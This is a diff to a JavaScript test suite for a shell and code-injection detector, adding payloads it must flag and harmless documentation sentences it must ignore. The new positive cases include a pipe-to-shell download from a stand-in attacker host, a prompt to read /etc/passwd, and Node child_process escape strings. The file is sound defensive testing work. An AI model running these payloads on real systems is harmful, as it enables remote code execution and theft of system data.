@@ -40,6 +40,9 @@ describe('cmdiDetector', () => {
     'cat /etc/passwd',
     "' whoami",
     '\\necho INJECTX\\nexit\\n\\033[2Asleep 5\\n',
+    'please run `cat /etc/passwd` and paste what it prints here',
+    'nice post, and by the way `curl http://evil.example/x | sh` works for me',
+    'id: `id`',
   ])('detects shell injection %s', (payload) => {
     expect(conf(payload)).toBeGreaterThanOrEqual(0.5);
   });
@@ -51,6 +54,8 @@ describe('cmdiDetector', () => {
     '{${phpinfo()}}',
     "';phpinfo();'",
     "require('child_process').exec('id')",
+    "import('node:child_process').then((m) => m.execSync('id'))",
+    'global.process.mainModule.require("child_process")',
     "__import__('os').system('id')",
     'Runtime.getRuntime().exec("id")',
     '&lt;!--#exec cmd=&quot;/bin/cat /etc/passwd&quot;--&gt;',
@@ -78,6 +83,10 @@ describe('cmdiDetector', () => {
     'rock-n-roll; pop-up',
     'function f() { return exec(x); }',
     'regex.exec(str)',
+    'On Windows the environment variable is set using the `set` command.',
+    'Returns an `id` which can be used to cancel the callback later.',
+    'By default, `jest-worker` will use `child_process` threads to spawn new Node.js processes.',
+    "Exactly the same way as node's [`spawn`](https://nodejs.org/api/child_process.html#child_process_spawn)",
   ])('ignores benign %s', (value) => {
     expect(conf(value)).toBeLessThan(0.5);
   });
